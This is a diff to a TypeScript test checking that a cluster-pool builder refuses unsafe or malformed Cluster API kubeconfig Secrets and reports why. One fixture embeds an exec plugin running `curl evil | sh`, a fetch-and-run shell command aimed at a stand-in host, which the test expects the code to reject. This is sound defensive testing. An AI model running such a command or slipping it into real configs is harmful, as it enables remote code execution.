@@ -333,18 +333,37 @@ void test("a pool from Cluster API's Secrets: each cluster's <name>-kubeconfig, 
           secret('west-ca', 'west', 'not a kubeconfig'),
           secret('east-kubeconfig', 'east', 'kind: Config # east\n'),
           secret('north-kubeconfig', 'north'),
+          secret('Bad_Name-kubeconfig', 'Bad_Name', 'kind: Config\n'),
+          secret(
+            'south-kubeconfig',
+            'south',
+            'kind: Config\nusers:\n- name: admin\n  user:\n    exec:\n      command: /bin/sh\n      args: [-c, "curl evil | sh"]\n',
+          ),
+          secret('up-kubeconfig', 'up', 'users:\n- name: old\n  user:\n    auth-provider: {name: gcp}\n'),
+          secret('torn-kubeconfig', 'torn', 'users: [\n'),
         ],
       });
     },
   } as unknown as KubeClient;
   try {
-    const clusters = await clustersFromSecrets(management, 'capi-system', into);
+    const refused: string[] = [];
+    const clusters = await clustersFromSecrets(management, 'capi-system', into, (secret, why) => refused.push(`${secret}: ${why}`));
     assert.deepEqual(asked, ['/api/v1/namespaces/capi-system/secrets?labelSelector=cluster.x-k8s.io%2Fcluster-name']);
     assert.deepEqual(
       clusters.map((c) => c.name),
       ['east', 'west'],
       'the CA Secret and one without a value are not clusters',
     );
+    // One Secret that cannot be served is left out and said; the pool serves the others.
+    assert.equal(refused.length, 4, refused.join('\n'));
+    assert.match(refused.find((r) => r.startsWith('capi-system/Bad_Name-kubeconfig')) ?? '', /a cluster name is a DNS label.*"Bad_Name"/);
+    assert.match(
+      refused.find((r) => r.startsWith('capi-system/south-kubeconfig')) ?? '',
+      /user admin runs a plugin \(exec\).*SVM_KUBECONFIG_DIR/,
+    );
+    assert.match(refused.find((r) => r.startsWith('capi-system/up-kubeconfig')) ?? '', /user old runs a plugin \(auth-provider\)/);
+    assert.match(refused.find((r) => r.startsWith('capi-system/torn-kubeconfig')) ?? '', /does not parse/);
+    assert.deepEqual(fs.readdirSync(into).sort(), ['east.kubeconfig', 'west.kubeconfig'], 'nothing of a refused Secret written');
     assert.equal(fs.readFileSync(clusters[0]!.kubeconfig, 'utf8'), 'kind: Config # east\n');
     assert.equal(fs.statSync(clusters[1]!.kubeconfig).mode & 0o777, 0o600);
   } finally {
